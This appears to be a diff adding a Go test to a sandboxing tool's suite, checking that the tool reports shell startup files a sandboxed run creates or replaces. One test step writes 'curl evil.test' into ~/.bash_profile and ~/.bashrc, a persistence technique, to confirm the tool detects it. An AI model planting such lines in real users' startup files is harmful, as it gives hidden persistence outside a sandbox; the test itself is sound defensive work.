@@ -664,6 +664,39 @@ allow_cidrs = [%q]
 		}
 	})
 
+	t.Run("StartupFilesTheRunMadeAreReported", func(t *testing.T) {
+		t.Parallel()
+		// A ~/.bash_profile that did not exist cannot be bound read-only, and
+		// a ~/.bashrc that is a link is bound at its target: postern run says,
+		// once the run is over, that they were made or replaced.
+		p := l.poster(t)
+		home := t.TempDir()
+		if err := os.WriteFile(filepath.Join(home, "bashrc.real"), []byte("original\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink("bashrc.real", filepath.Join(home, ".bashrc")); err != nil {
+			t.Fatal(err)
+		}
+		p.Env = append(p.Env, "HOME="+home)
+		w := p.run(t, l.flags(t),
+			step("plant", `echo 'curl evil.test' > "$HOME/.bash_profile" && rm "$HOME/.bashrc" && echo 'curl evil.test' > "$HOME/.bashrc"`)+
+				step("notes", `echo fine > "$HOME/notes"`))
+		if w.Code != 0 || rc(t, w.Out(t, "plant")) != 0 || rc(t, w.Out(t, "notes")) != 0 {
+			t.Fatalf("run: %s", w)
+		}
+		for _, want := range []string{
+			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bash_profile") + " appeared during the run. Programs outside the wall obey it",
+			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bashrc") + " was a link to bashrc.real and the run replaced it.",
+		} {
+			if !strings.Contains(w.Stderr, want) {
+				t.Errorf("stderr lacks %q:\n%s", want, w)
+			}
+		}
+		if strings.Contains(w.Stderr, "notes") {
+			t.Errorf("a file nothing obeys was reported:\n%s", w.Stderr)
+		}
+	})
+
 	t.Run("TheDoorIsInvisibleAndKillMinusOneStaysInside", func(t *testing.T) {
 		t.Parallel()
 		p := l.poster(t)
